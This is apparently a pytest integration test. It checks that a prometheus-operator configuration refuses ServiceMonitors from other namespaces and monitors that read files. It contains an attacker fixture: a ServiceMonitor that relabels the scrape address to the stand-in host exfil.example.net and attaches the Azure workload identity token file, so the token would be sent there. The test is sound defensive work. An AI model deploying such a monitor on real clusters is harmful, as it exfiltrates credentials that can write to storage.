"""Operator mode (azure) under the real prometheus-operator v0.85.0 and a real API server: the Prometheus
configuration the operator renders from the planned objects takes ServiceMonitors and rules from the stack's own
namespace only and refuses a monitor that reads a file, so no namespace can make Prometheus send its workload
identity token (the bucket writer's) to a host of its choosing (issue 32, item 3).

One cluster of the azure plan (its Namespaces, Secrets, ConfigMaps, Prometheus, ServiceMonitors and
PrometheusRule, exactly as planned) beside an attacker's objects; the operator runs against the API server with the
admin kubeconfig and only writes what it renders (no kubelet: the Secret `prometheus-<name>` holding
`prometheus.yaml.gz` is the judged output). The same Prometheus in its old form (monitors from every namespace, file
access allowed) is rendered by the same operator run: it takes the attacker's monitor, token file and host."""

import base64
import gzip
import os
import subprocess
import time
from typing import Any

import pytest
import yaml

from components.observability.operator import MONITORING
from tests.realtools.build import tool
from tests.realtools.kubernetes import Cluster, free_port, wait_until
from tests.realtools.plan import kubernetes_objects

CLUSTER = "amsterdam"
"""The azure cluster whose objects are applied (the other is planned the same way)."""
TOKEN_FILE = "/var/run/secrets/azure/tokens/azure-identity-token"
"""Where Azure's workload identity webhook mounts the federated token in the planned Prometheus pods (label
azure.workload.identity/use): whoever gets it writes to the cluster's bucket."""
OUTSIDE = "exfil.example.net:443"
ATTACKER = "team-a"
"""Another team's namespace on the same Kubernetes cluster: it may create ServiceMonitors there."""
OLD_FORM = "thanos-prometheus-before-issue-32"
"""The planned Prometheus before issue 32: serviceMonitorNamespaceSelector {} and no arbitraryFSAccessThroughSMs."""
APPLIED = {"Namespace", "Secret", "ConfigMap", "Prometheus", "ServiceMonitor", "PodMonitor", "Probe", "ScrapeConfig",
           "PrometheusRule"}
"""The planned kinds the operator reads to render a Prometheus (workloads and Services are not read)."""


def create(cluster: Cluster, obj: dict[str, Any]) -> None:
    meta = obj["metadata"]
    cluster.api("POST", cluster.resource_path(obj["apiVersion"], obj["kind"], meta.get("namespace")), obj)


def exporting_monitor(namespace: str, name: str, labels: dict[str, str]) -> dict[str, Any]:
    """A ServiceMonitor that makes Prometheus send the workload identity token to an outside host: any Service of
    its namespace stands for the target, the address is relabelled to the host, the token read from its file."""
    return {"apiVersion": MONITORING, "kind": "ServiceMonitor", "metadata": {"name": name, "namespace": namespace,
                                                                             "labels": labels},
            "spec": {"selector": {}, "endpoints": [{
                "port": "https", "scheme": "https", "bearerTokenFile": TOKEN_FILE,
                "relabelings": [{"action": "replace", "targetLabel": "__address__", "replacement": OUTSIDE}]}]}}


@pytest.fixture(scope="module")
def operator(tmp_path_factory):
    """The API server with the planned objects and the attacker's, and the real operator once it has rendered both
    Prometheus resources: yields (cluster, planned objects applied)."""
    started = time.monotonic()
    planned = [o for c, o in kubernetes_objects("azure") if c == CLUSTER and o["kind"] in APPLIED]
    prometheus = next(o for o in planned if o["kind"] == "Prometheus")
    selected = prometheus["spec"]["serviceMonitorSelector"]["matchLabels"]
    namespace = prometheus["metadata"]["namespace"]
    old = {**prometheus, "metadata": {**prometheus["metadata"], "name": OLD_FORM}, "spec": {
        **{k: v for k, v in prometheus["spec"].items() if k not in (
            "arbitraryFSAccessThroughSMs", "podMonitorNamespaceSelector", "probeNamespaceSelector",
            "scrapeConfigNamespaceSelector")},
        "serviceMonitorNamespaceSelector": {}}}
    attacker = [
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": ATTACKER}},
        exporting_monitor(ATTACKER, "export", selected),
        # Without file access: what keeps it out is the namespace selector alone.
        {"apiVersion": MONITORING, "kind": "ServiceMonitor", "metadata": {
            "name": "metrics", "namespace": ATTACKER, "labels": selected},
         "spec": {"selector": {}, "endpoints": [{"port": "metrics"}]}},
        {"apiVersion": MONITORING, "kind": "PrometheusRule", "metadata": {
            "name": "export", "namespace": ATTACKER, "labels": prometheus["spec"]["ruleSelector"]["matchLabels"]},
         "spec": {"groups": [{"name": "attacker", "rules": [{"record": "attacker:up", "expr": "up"}]}]}},
        # In the stack's own namespace (whoever may write monitors there): file access is what is refused.
        exporting_monitor(namespace, "thanos-token-export", selected)]
    with Cluster(tmp_path_factory.mktemp("real-operator")) as cluster:
        cluster.install_crds()
        for obj in sorted(planned, key=lambda o: o["kind"] != "Namespace") + [old] + attacker:
            create(cluster, obj)
        ready = time.monotonic()
        cluster.spawn("prometheus-operator", [
            str(tool("prometheus-operator")), f"--web.listen-address=127.0.0.1:{free_port()}",
            "--log-level=info"], env={**os.environ, "KUBECONFIG": str(cluster.kubeconfig)})
        for name in (prometheus["metadata"]["name"], OLD_FORM):
            assert wait_until(lambda name=name: cluster.get(f"/api/v1/namespaces/{namespace}/secrets/prometheus-{name}"),
                              60, 0.5), cluster.log("prometheus-operator")
        print(f"control plane and objects {ready - started:.1f} s, operator rendered both in "
              f"{time.monotonic() - ready:.1f} s")
        yield cluster, planned
    assert not cluster.leftovers()


def rendered(cluster: Cluster, namespace: str, name: str) -> dict[str, Any]:
    """The Prometheus configuration the operator wrote for Prometheus `name`."""
    secret = cluster.api("GET", f"/api/v1/namespaces/{namespace}/secrets/prometheus-{name}")
    return yaml.safe_load(gzip.decompress(base64.b64decode(secret["data"]["prometheus.yaml.gz"])))


def monitor_jobs(config: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """job name -> scrape config, of the jobs rendered from ServiceMonitors (`serviceMonitor/<ns>/<name>/<i>`)."""
    return {job["job_name"]: job for job in config["scrape_configs"] if job["job_name"].startswith("serviceMonitor/")}


def rule_files(cluster: Cluster, namespace: str, name: str) -> list[str]:
    """The rule files the operator gave Prometheus `name` (`<namespace>-<PrometheusRule>-<uid>.yaml`)."""
    maps = cluster.items(f"/api/v1/namespaces/{namespace}/configmaps?labelSelector=prometheus-name%3D{name}")
    return sorted(key for m in maps for key in (m.get("data") or {}))


def test_operator_mode_takes_only_its_namespaces_monitors_and_refuses_file_access_which_the_old_form_did_not(operator):
    cluster, planned = operator
    prometheus = next(o for o in planned if o["kind"] == "Prometheus")
    namespace, name = prometheus["metadata"]["namespace"], prometheus["metadata"]["name"]
    config = rendered(cluster, namespace, name)
    # Each planned ServiceMonitor is one job, discovering in the namespaces it names; nothing else is taken.
    expected = {f"serviceMonitor/{namespace}/{o['metadata']['name']}/0": o["spec"]["namespaceSelector"]["matchNames"]
                for o in planned if o["kind"] == "ServiceMonitor"}
    jobs = monitor_jobs(config)
    assert len(expected) == 14 and set(jobs) == set(expected), sorted(set(jobs) ^ set(expected))
    assert {job: [sd["namespaces"]["names"] for sd in jobs[job]["kubernetes_sd_configs"]] for job in jobs} == {
        job: [names] for job, names in expected.items()}
    text = yaml.safe_dump(config)
    assert TOKEN_FILE not in text and OUTSIDE not in text and "bearer_token_file" not in text
    # The planned Kubernetes jobs (additionalScrapeConfigs) are there too, and the rules are the planned ones only.
    assert {j["job_name"] for j in config["scrape_configs"]} - set(jobs), config["scrape_configs"]
    rules = rule_files(cluster, namespace, name)
    assert len(rules) == 1 and rules[0].startswith(f"{namespace}-thanos-platform-rules-"), rules

    # The file-reading monitor of the stack's own namespace is refused, and says so where its owner looks.
    def refusal():
        return [e for e in cluster.items(f"/api/v1/namespaces/{namespace}/events")
                if e["reason"] == "InvalidConfiguration" and e["involvedObject"]["name"] == "thanos-token-export"]
    events = wait_until(refusal, 30, 0.5)
    assert events and "bearer token file" in events[0]["message"], cluster.log("prometheus-operator")
    assert f"{namespace}/thanos-token-export" in cluster.log("prometheus-operator", 100_000)

    # The rendered configuration is one the planned Prometheus (3.5.0) accepts.
    path = cluster.workdir / "planned-prometheus.yaml"
    path.write_text(text)
    check = subprocess.run([str(tool("promtool")), "check", "config", "--syntax-only", str(path)],
                           capture_output=True, text=True, timeout=60)
    assert check.returncode == 0, check.stdout + check.stderr

    # The same Prometheus in its old form takes every attacker's monitor, with the token file and the outside host:
    # the monitors above are ones the operator accepts, and what keeps them out is the planned form. (One test, not
    # two: pytest 9.2 with xdist 3.8 ignores xdist_group, pytest-xdist#1386, and each would start a control plane.)
    jobs = monitor_jobs(rendered(cluster, namespace, OLD_FORM))
    assert f"serviceMonitor/{ATTACKER}/metrics/0" in jobs
    for stolen in (f"serviceMonitor/{ATTACKER}/export/0", f"serviceMonitor/{namespace}/thanos-token-export/0"):
        job = jobs[stolen]
        assert job["bearer_token_file"] == TOKEN_FILE and job["scheme"] == "https", job
        assert {"target_label": "__address__", "replacement": OUTSIDE, "action": "replace"}.items() <= next(
            r for r in job["relabel_configs"] if r.get("target_label") == "__address__").items(), job
    # The rules stayed with the stack's namespace in the old form too (ruleNamespaceSelector was already its own).
    assert not [r for r in rule_files(cluster, namespace, OLD_FORM) if r.startswith(f"{ATTACKER}-")]
